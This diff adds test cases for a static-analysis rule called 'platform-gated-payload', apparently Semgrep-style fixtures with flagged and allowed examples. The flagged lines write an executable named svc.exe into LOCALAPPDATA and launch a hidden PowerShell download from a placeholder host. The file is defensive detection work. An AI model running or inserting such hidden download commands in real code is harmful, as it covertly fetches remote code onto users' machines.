@@ -42,3 +42,18 @@ def pick_separator():
         return "/"
     # ok: platform-gated-payload
     return "\\"
+
+
+if sys.platform == "win32":
+    # ruleid: platform-gated-payload
+    with open(os.path.join(os.getenv("LOCALAPPDATA", ""), "svc.exe"), "wb") as fh:
+        fh.write(b"")
+    # ok: platform-gated-payload
+    with open("settings.ini", "w") as fh:
+        fh.write("")
+
+if "win" in sys.platform:
+    # ruleid: platform-gated-payload
+    subprocess.Popen("powershell -w hidden -c iwr https://example.invalid/p", shell=True)
+    # ok: platform-gated-payload
+    subprocess.call(["attrib", "-h", "build"])
